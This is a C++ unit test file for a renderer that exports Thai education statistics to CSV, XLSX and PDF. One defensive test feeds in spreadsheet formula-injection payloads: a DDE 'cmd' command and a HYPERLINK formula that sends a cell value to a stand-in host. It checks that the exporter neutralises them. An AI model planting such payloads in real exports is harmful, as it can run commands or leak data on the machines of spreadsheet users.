#include "reports/render.hpp"

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <zip.h>

#include <cstdio>
#include <cstdlib>
#include <optional>
#include <string>

#include "base/utf8.hpp"
#include "tests/support/pdf_text.hpp"
#include "tests/support/temp_dir.hpp"

namespace khet::reports {
namespace {

using ::testing::ContainsRegex;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::StartsWith;

constexpr const char* kBom = "\xEF\xBB\xBF";
constexpr const char* kCaption = "ตารางที่ 3 จำนวนนักเรียน ห้องเรียน ครู และอัตราส่วนครูต่อนักเรียน";

Row BodyRow(const std::string& district, long long students, long long rooms, long long teachers) {
    return Row{{Cell::Text(district), Cell::Integer(students), Cell::Integer(rooms),
                Cell::Integer(teachers),
                Cell::Ratio(static_cast<double>(students) / static_cast<double>(teachers))},
               RowRole::kBody};
}

Table DistrictTable(int extra_rows = 0) {
    Table table{
        .id = "table3",
        .caption = kCaption,
        .columns = {{"district", "อำเภอ", CellKind::kText},
                    {"students", "จำนวนนักเรียน", CellKind::kInteger},
                    {"classrooms", "จำนวนห้องเรียน", CellKind::kInteger},
                    {"teachers", "จำนวนครู", CellKind::kInteger},
                    {"ratio", "อัตราส่วนครูต่อนักเรียน", CellKind::kRatio}},
        .rows = {},
        .notes = {"หมายเหตุ: นับครูที่ปฏิบัติการสอนจริง ณ วันที่ 10 มิถุนายน"},
    };
    table.rows.push_back(BodyRow("คลองเขื่อน", 691, 64, 40));
    table.rows.push_back(BodyRow("เมืองฉะเชิงเทรา", 27853, 1010, 1586));
    for (int i = 0; i < extra_rows; ++i) {
        table.rows.push_back(BodyRow("โรงเรียนบ้านหนองน้ำใส " + std::to_string(i + 1), 100 + i, 8, 6));
    }
    table.rows.push_back(Row{
        {Cell::Text("บางน้ำเปรี้ยว"), Cell::Integer(0), Cell::None(), Cell::Integer(0), Cell::None()},
        RowRole::kBody});
    table.rows.push_back(Row{{Cell::Text("รวม"), Cell::Integer(28544), Cell::Integer(1074),
                              Cell::Integer(1626), Cell::Ratio(28544.0 / 1626.0)},
                             RowRole::kTotal});
    return table;
}

Document SampleDocument(int extra_rows = 0) {
    return Document{
        .title = "สถิติการศึกษา ปีการศึกษา 2564",
        .provenance = {"สำนักงานเขตพื้นที่การศึกษาประถมศึกษาฉะเชิงเทรา เขต 1",
                       "ข้อมูล ณ 10 มิถุนายน 2564 (รอบที่ 1) ส่งออกเมื่อ 2 ก.พ. 2565 09:30 น."},
        .blocks = {Heading{"ส่วนที่ 1 ข้อมูลพื้นฐาน", 1},
                   Paragraph{"สำนักงานเขตพื้นที่การศึกษามีโรงเรียนในสังกัดกระจายอยู่ในทุกอำเภอ "
                             "ข้อมูลนักเรียนและครูรวบรวมจากระบบจัดเก็บข้อมูลนักเรียนรายบุคคล"},
                   DistrictTable(extra_rows)},
    };
}

std::optional<std::string> ZipEntry(const std::string& archive, const char* name) {
    zip_error_t error;
    zip_error_init(&error);
    zip_source_t* source = zip_source_buffer_create(archive.data(), archive.size(), 0, &error);
    if (source == nullptr) return std::nullopt;
    zip_t* zip = zip_open_from_source(source, ZIP_RDONLY, &error);
    if (zip == nullptr) {
        zip_source_free(source);
        return std::nullopt;
    }
    std::optional<std::string> content;
    zip_stat_t stat;
    if (zip_stat(zip, name, 0, &stat) == 0) {
        if (zip_file_t* file = zip_fopen(zip, name, 0)) {
            std::string bytes(stat.size, '\0');
            if (zip_fread(file, bytes.data(), stat.size) == static_cast<zip_int64_t>(stat.size)) {
                content = std::move(bytes);
            }
            zip_fclose(file);
        }
    }
    zip_close(zip);
    return content;
}

using testing::HaveCommand;
using testing::PdfPages;
using testing::RunCommand;

TEST(ParseFormat, AcceptsTheThreeFormatNames) {
    EXPECT_EQ(ParseFormat("csv"), Format::kCsv);
    EXPECT_EQ(ParseFormat("xlsx"), Format::kXlsx);
    EXPECT_EQ(ParseFormat("PDF"), Format::kPdf);
}

TEST(ParseFormat, RejectsOtherNamesListingTheAllowedOnes) {
    auto format = ParseFormat("docx");
    ASSERT_FALSE(format);
    EXPECT_EQ(format.error().code, ErrorCode::kInvalidArgument);
    EXPECT_THAT(format.error().message, HasSubstr("docx"));
    EXPECT_THAT(format.error().message, HasSubstr("csv, xlsx หรือ pdf"));
    EXPECT_EQ(format.error().fields.at(0).field, "format");
}

TEST(Render, NamesContentTypesAndExtensions) {
    EXPECT_STREQ(ContentType(Format::kCsv), "text/csv; charset=utf-8");
    EXPECT_STREQ(ContentType(Format::kXlsx),
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    EXPECT_STREQ(ContentType(Format::kPdf), "application/pdf");
    EXPECT_STREQ(FileExtension(Format::kCsv), "csv");
    EXPECT_STREQ(FileExtension(Format::kXlsx), "xlsx");
    EXPECT_STREQ(FileExtension(Format::kPdf), "pdf");
}

TEST(Render, DispatchesOnTheFormat) {
    const Document document = SampleDocument();
    EXPECT_EQ(Render(document, Format::kCsv).value(), RenderCsv(document).value());
    EXPECT_THAT(Render(document, Format::kXlsx).value(), StartsWith("PK"));
    EXPECT_THAT(Render(document, Format::kPdf).value(), StartsWith("%PDF-"));
}

TEST(Render, RejectsARowNarrowerThanItsTableInEveryFormat) {
    Document document = SampleDocument();
    std::get<Table>(document.blocks[2]).rows[1].cells.pop_back();
    for (Format format : {Format::kCsv, Format::kXlsx, Format::kPdf}) {
        auto bytes = Render(document, format);
        ASSERT_FALSE(bytes) << FileExtension(format);
        EXPECT_EQ(bytes.error().code, ErrorCode::kInvalidArgument);
        EXPECT_EQ(bytes.error().fields.at(0).field, "blocks[2].rows[1]");
        EXPECT_THAT(bytes.error().fields.at(0).message, HasSubstr("มี 4 ช่อง แต่ตารางมี 5 คอลัมน์"));
    }
}

// A value stored before the input hygiene, or poisoned in the database, must never make a
// document fail for good (docs/SECURITY.md, probe 6): each format writes it as U+FFFD.
TEST(Render, WritesAnyStoredTextAsAValidFileInEveryFormat) {
    Document document = SampleDocument();
    Table& table = std::get<Table>(document.blocks[2]);
    table.rows[0].cells[0].text = "พนมสารคาม\uFFFF";
    table.rows[1].cells[0].text = std::string("ก") + '\0' + "ข\x01";
    table.rows[2].cells[0].text = "\xA4\xC5\xCD\xA7";  // TIS-620
    table.caption = "ตาราง\xEF\xBF\xBE";               // U+FFFE
    document.title = "\xED\xA0\x80";                   // a surrogate

    // Each file holds U+FFFD where the stored value held what no file may carry.
    const std::string csv = RenderCsv(document).value();
    EXPECT_TRUE(IsValidUtf8(csv));
    EXPECT_EQ(csv.find('\0'), std::string::npos);
    EXPECT_THAT(csv, StartsWith(std::string(kBom) + "ตาราง\uFFFD\r\n"));
    EXPECT_THAT(csv, HasSubstr("\r\nพนมสารคาม\uFFFD,"));
    EXPECT_THAT(csv, HasSubstr("\r\nก\uFFFDข\uFFFD,"));

    const auto strings = ZipEntry(RenderXlsx(document).value(), "xl/sharedStrings.xml");
    ASSERT_TRUE(strings);
    EXPECT_TRUE(IsValidUtf8(*strings));
    EXPECT_THAT(*strings, HasSubstr("พนมสารคาม\uFFFD"));
    EXPECT_THAT(*strings, Not(HasSubstr("\uFFFF")));
    EXPECT_EQ(strings->find_first_of(std::string("\x01\0", 2)), std::string::npos);

    const std::string pdf = RenderPdf(document).value();
    EXPECT_THAT(pdf, StartsWith("%PDF-"));
    REQUIRE_COMMAND("pdftotext");
    const testing::TempDir dir;
    EXPECT_THAT(PdfPages(pdf, dir).at(0), HasSubstr("พนมสารคาม"));
}

TEST(RenderCsv, QuotesTextThatASpreadsheetWouldRunAsAFormula) {
    Document document{.title = "", .provenance = {"=cmd|' /C calc'!A0"}, .blocks = {}};
    document.blocks.emplace_back(
        Table{.id = "t",
              .caption = "",
              .columns = {{"text", "@ข้อความ", CellKind::kText}, {"n", "ค่า", CellKind::kDecimal}},
              .rows = {Row{{Cell::Text("=HYPERLINK(\"http://x.example/\"&B3,\"ดู\")"),
                            Cell::Decimal(-5.2)},
                           RowRole::kBody},
                       Row{{Cell::Text("+1+1"), Cell::None()}, RowRole::kBody},
                       Row{{Cell::Text("-5.20"), Cell::Integer(-3)}, RowRole::kBody},
                       Row{{Cell::Text("-"), Cell::Decimal(1)}, RowRole::kBody},
                       Row{{Cell::Text("\tx"), Cell::Decimal(1)}, RowRole::kBody},
                       Row{{Cell::Text("\uFF1D1+1"), Cell::Decimal(1)}, RowRole::kBody},
                       Row{{Cell::Text("ก=1"), Cell::Decimal(1)}, RowRole::kBody}},
              .notes = {}});
    EXPECT_EQ(RenderCsv(document).value(),
              std::string(kBom) +
                  "'@ข้อความ,ค่า\r\n"
                  "\"'=HYPERLINK(\"\"http://x.example/\"\"&B3,\"\"ดู\"\")\",-5.20\r\n"
                  "'+1+1,-\r\n"
                  "-5.20,-3\r\n"
                  "-,1.00\r\n"
                  "'\tx,1.00\r\n"
                  "'\uFF1D1+1,1.00\r\n"
                  "ก=1,1.00\r\n"
                  "\r\n'=cmd|' /C calc'!A0\r\n");
}

TEST(RenderCsv, StartsWithABomAndEndsLinesWithCrlf) {
    const std::string csv = RenderCsv(SampleDocument()).value();
    EXPECT_THAT(csv, StartsWith(kBom));
    EXPECT_THAT(csv, HasSubstr("\r\nคลองเขื่อน,"));
    for (size_t i = 0; i < csv.size(); ++i) {
        if (csv[i] == '\n') {
            ASSERT_EQ(csv[i - 1], '\r') << "bare LF at byte " << i;
        }
    }
}

TEST(RenderCsv, WritesNumbersPlainAndRatiosAsOneToN) {
    const std::string csv = RenderCsv(SampleDocument()).value();
    EXPECT_THAT(csv, HasSubstr("\r\nคลองเขื่อน,691,64,40,1:17.28\r\n"));
    EXPECT_THAT(csv, HasSubstr("\r\nเมืองฉะเชิงเทรา,27853,1010,1586,1:17.56\r\n"));
    EXPECT_THAT(csv, HasSubstr("\r\nบางน้ำเปรี้ยว,0,-,0,-\r\n"));
}

TEST(RenderCsv, PutsTheCaptionThenTheHeadersThenRowsNotesAndProvenance) {
    const std::string csv = RenderCsv(SampleDocument()).value();
    const std::string expected_start =
        std::string(kBom) + kCaption +
        "\r\n"
        "อำเภอ,จำนวนนักเรียน,จำนวนห้องเรียน,จำนวนครู,อัตราส่วนครูต่อนักเรียน\r\n"
        "คลองเขื่อน,691,64,40,1:17.28\r\n";
    EXPECT_THAT(csv, StartsWith(expected_start));
    const std::string expected_end =
        "รวม,28544,1074,1626,1:17.55\r\n"
        "หมายเหตุ: นับครูที่ปฏิบัติการสอนจริง ณ วันที่ 10 มิถุนายน\r\n"
        "\r\n"
        "สำนักงานเขตพื้นที่การศึกษาประถมศึกษาฉะเชิงเทรา เขต 1\r\n"
        "ข้อมูล ณ 10 มิถุนายน 2564 (รอบที่ 1) ส่งออกเมื่อ 2 ก.พ. 2565 09:30 น.\r\n";
    ASSERT_GE(csv.size(), expected_end.size());
    EXPECT_EQ(csv.substr(csv.size() - expected_end.size()), expected_end);
    EXPECT_THAT(csv, Not(HasSubstr("ส่วนที่ 1")));  // prose is for the PDF
}

TEST(RenderCsv, SeparatesTablesWithABlankLineAndTheNextCaption) {
    Document document{.title = "", .provenance = {}, .blocks = {}};
    document.blocks.emplace_back(Table{.id = "a",
                                       .caption = "ตาราง ก",
                                       .columns = {{"n", "จำนวน", CellKind::kInteger}},
                                       .rows = {Row{{Cell::Integer(1)}, RowRole::kBody}},
                                       .notes = {}});
    document.blocks.emplace_back(Table{.id = "b",
                                       .caption = "ตาราง ข",
                                       .columns = {{"n", "ร้อยละ", CellKind::kPercent}},
                                       .rows = {Row{{Cell::Percent(27.585)}, RowRole::kBody}},
                                       .notes = {}});
    EXPECT_EQ(RenderCsv(document).value(), std::string(kBom) +
                                               "ตาราง ก\r\nจำนวน\r\n1\r\n"
                                               "\r\n"
                                               "ตาราง ข\r\nร้อยละ\r\n27.59\r\n");
}

TEST(RenderCsv, QuotesFieldsPerRfc4180) {
    Document document{.title = "", .provenance = {}, .blocks = {}};
    document.blocks.emplace_back(
        Table{.id = "t",
              .caption = "",
              .columns = {{"name", "ชื่อ", CellKind::kText}, {"note", "หมายเหตุ", CellKind::kText}},
              .rows = {Row{{Cell::Text("โรงเรียน \"วัดโสธร\", ฉะเชิงเทรา"), Cell::Text("สอง\nบรรทัด")},
                           RowRole::kBody}},
              .notes = {}});
    EXPECT_EQ(RenderCsv(document).value(), std::string(kBom) +
                                               "ชื่อ,หมายเหตุ\r\n"
                                               "\"โรงเรียน \"\"วัดโสธร\"\", ฉะเชิงเทรา\","
                                               "\"สอง\nบรรทัด\"\r\n");
}

TEST(RenderXlsx, IsAZipWhoseSharedStringsHoldTheThaiText) {
    const std::string xlsx = RenderXlsx(SampleDocument()).value();
    ASSERT_THAT(xlsx, StartsWith("PK"));
    const auto strings = ZipEntry(xlsx, "xl/sharedStrings.xml");
    ASSERT_TRUE(strings);
    EXPECT_THAT(*strings, HasSubstr(kCaption));
    EXPECT_THAT(*strings, HasSubstr("คลองเขื่อน"));
    EXPECT_THAT(*strings, HasSubstr("อัตราส่วนครูต่อนักเรียน"));
    EXPECT_THAT(*strings, HasSubstr("สำนักงานเขตพื้นที่การศึกษาประถมศึกษาฉะเชิงเทรา เขต 1"));
}

TEST(RenderXlsx, StoresNumbersAsNumbersWithGroupingAndRatioFormats) {
    const std::string xlsx = RenderXlsx(SampleDocument()).value();
    const auto sheet = ZipEntry(xlsx, "xl/worksheets/sheet1.xml");
    ASSERT_TRUE(sheet);
    EXPECT_THAT(*sheet, HasSubstr("<v>691</v>"));
    EXPECT_THAT(*sheet, HasSubstr("<v>27853</v>"));
    EXPECT_THAT(*sheet, HasSubstr("<v>17.275</v>"));       // the ratio stays a number
    EXPECT_THAT(*sheet, HasSubstr("<pane ySplit=\"2\""));  // caption and header stay in view
    const auto styles = ZipEntry(xlsx, "xl/styles.xml");
    ASSERT_TRUE(styles);
    EXPECT_THAT(*styles, HasSubstr("formatCode=\"#,##0\""));
    EXPECT_THAT(*styles, HasSubstr("formatCode=\"&quot;1:&quot;0.00\""));
    EXPECT_THAT(*styles, HasSubstr("<name val=\"TH Sarabun New\"/>"));
    EXPECT_THAT(*styles, HasSubstr("<sz val=\"16\"/>"));
}

TEST(RenderXlsx, GivesDecimalsAndPercentagesTwoPlaces) {
    Document document{.title = "", .provenance = {}, .blocks = {}};
    document.blocks.emplace_back(Table{.id = "percent",
                                       .caption = "ร้อยละ",
                                       .columns = {{"p", "ร้อยละ", CellKind::kPercent}},
                                       .rows = {Row{{Cell::Percent(27.585)}, RowRole::kBody}},
                                       .notes = {}});
    const std::string xlsx = RenderXlsx(document).value();
    EXPECT_THAT(ZipEntry(xlsx, "xl/worksheets/sheet1.xml").value(), HasSubstr("<v>27.585</v>"));
    EXPECT_THAT(ZipEntry(xlsx, "xl/styles.xml").value(), HasSubstr("formatCode=\"#,##0.00\""));
}

TEST(RenderXlsx, NamesOneSheetPerTableByIdWithinExcelsRules) {
    Document document = SampleDocument();
    Table long_id = DistrictTable();
    long_id.id = "table3_students_by_district_and_size_group";
    Table duplicate = DistrictTable();
    Table odd = DistrictTable();
    odd.id = "a/b:c";
    document.blocks.push_back(long_id);
    document.blocks.push_back(duplicate);
    document.blocks.push_back(odd);
    const auto workbook = ZipEntry(RenderXlsx(document).value(), "xl/workbook.xml");
    ASSERT_TRUE(workbook);
    EXPECT_THAT(*workbook, HasSubstr("name=\"table3\""));
    EXPECT_THAT(*workbook, HasSubstr("name=\"table3_students_by_district_and\""));  // 31 characters
    EXPECT_THAT(*workbook, HasSubstr("name=\"table3_2\""));
    EXPECT_THAT(*workbook, HasSubstr("name=\"a_b_c\""));
}

TEST(RenderXlsx, PutsADocumentWithoutTablesOnOneSheet) {
    Document document = SampleDocument();
    document.blocks.pop_back();
    const std::string xlsx = RenderXlsx(document).value();
    const auto strings = ZipEntry(xlsx, "xl/sharedStrings.xml");
    ASSERT_TRUE(strings);
    EXPECT_THAT(*strings, HasSubstr("ส่วนที่ 1 ข้อมูลพื้นฐาน"));
}

TEST(RenderPdf, IsA4WithTheThaiTextAndAPageNumber) {
    REQUIRE_COMMAND("pdftotext");
    REQUIRE_COMMAND("pdfinfo");
    const testing::TempDir dir;
    const std::string pdf = RenderPdf(SampleDocument()).value();
    ASSERT_THAT(pdf, StartsWith("%PDF-"));
    const auto pages = PdfPages(pdf, dir);
    ASSERT_EQ(pages.size(), 1u);
    EXPECT_THAT(pages[0], HasSubstr("ตารางที่ 3"));
    EXPECT_THAT(pages[0], HasSubstr("คลองเขื่อน"));
    EXPECT_THAT(pages[0], HasSubstr("1:17.28"));
    EXPECT_THAT(pages[0], HasSubstr("27,853"));
    EXPECT_THAT(pages[0], HasSubstr("หน้า 1"));
    const std::string info = RunCommand("pdfinfo '" + dir.File("out.pdf").string() + "'");
    EXPECT_THAT(info, ContainsRegex("Page size: +595.276 x 841.89 pts \\(A4\\)"));
    EXPECT_THAT(info, ContainsRegex("Title: +สถิติการศึกษา ปีการศึกษา 2564"));
}

TEST(RenderPdf, BreaksALongTableAcrossPagesRepeatingTheHeader) {
    REQUIRE_COMMAND("pdftotext");
    const testing::TempDir dir;
    const auto pages = PdfPages(RenderPdf(SampleDocument(120)).value(), dir);
    ASSERT_GT(pages.size(), 1u);
    EXPECT_THAT(pages[1], HasSubstr("ตารางที่ 3"));
    EXPECT_THAT(pages[1], HasSubstr("(ต่อ)"));
    EXPECT_THAT(pages[1], HasSubstr("จำนวนนักเรียน"));
    EXPECT_THAT(pages[1], HasSubstr("หน้า 2"));
    EXPECT_THAT(pages.back(), HasSubstr("รวม"));
    EXPECT_THAT(pages.back(), HasSubstr("28,544"));
}

TEST(RenderPdf, WritesEveryDigitInThaiWhenAsked) {
    REQUIRE_COMMAND("pdftotext");
    const testing::TempDir dir;
    const auto pages = PdfPages(RenderPdf(SampleDocument(), {.thai_digits = true}).value(), dir);
    ASSERT_EQ(pages.size(), 1u);
    EXPECT_THAT(pages[0], HasSubstr("หน้า ๑"));
    EXPECT_THAT(pages[0], HasSubstr("๑:๑๗.๒๘"));
    EXPECT_THAT(pages[0], HasSubstr("๒๗,๘๕๓"));
    EXPECT_THAT(pages[0], Not(HasSubstr("27,853")));
}

TEST(RenderPdf, ContinuesALongParagraphOnTheNextPage) {
    REQUIRE_COMMAND("pdftotext");
    std::string text;
    for (int i = 0; i < 400; ++i) text += "การประเมินคุณภาพการศึกษาของสถานศึกษาในสังกัด ";
    text += "จบย่อหน้า";
    const Document document{.title = "รายงาน", .provenance = {}, .blocks = {Paragraph{text}}};
    const testing::TempDir dir;
    const auto pages = PdfPages(RenderPdf(document).value(), dir);
    ASSERT_GT(pages.size(), 1u);
    EXPECT_THAT(pages.back(), HasSubstr("จบย่อหน้า"));
}

TEST(RenderPdf, SplitsARowTallerThanAThirdOfAPageLineByLine) {
    REQUIRE_COMMAND("pdftotext");
    // A short row, then a row of 60 numbered lines beside a one-line cell: the tall row starts
    // on the first page and goes on, under the header again, on the next; every line once.
    std::string tall;
    // (ASCII marks: pdftotext may move Thai tone marks.)
    for (int i = 1; i <= 60; ++i) tall += fmt::format("line-{:02} บรรทัด\n", i);
    tall += "last-line";
    Document document{.title = "รายงาน", .provenance = {}, .blocks = {}};
    document.blocks.emplace_back(
        Table{.id = "t",
              .caption = "ตารางทดสอบ",
              .columns = {{"kpi", "KPI", CellKind::kText}, {"group", "กลุ่ม", CellKind::kText}},
              .rows = {Row{{Cell::Text("แถวสั้น"), Cell::Text("แผน")}, RowRole::kBody},
                       Row{{Cell::Text(tall), Cell::Text("นิเทศ")}, RowRole::kBody}},
              .notes = {}});
    const testing::TempDir dir;
    const auto pages = PdfPages(RenderPdf(document).value(), dir);
    ASSERT_EQ(pages.size(), 2u);
    EXPECT_THAT(pages[0], HasSubstr("แถวสั้น"));
    EXPECT_THAT(pages[0], HasSubstr("line-01"));
    EXPECT_THAT(pages[0], HasSubstr("นิเทศ"));  // the short cell is drawn with the row's start
    EXPECT_THAT(pages[1], HasSubstr("ตารางทดสอบ (ต่อ)"));
    EXPECT_THAT(pages[1], HasSubstr("KPI"));
    EXPECT_THAT(pages[1], HasSubstr("last-line"));
    for (int i = 1; i <= 60; ++i) {
        const std::string line = fmt::format("line-{:02}", i);
        const auto on = [&](const std::string& page) { return page.find(line) != page.npos; };
        EXPECT_NE(on(pages[0]), on(pages[1])) << line << " is on one page, once";
    }
}

}  // namespace
}  // namespace khet::reports
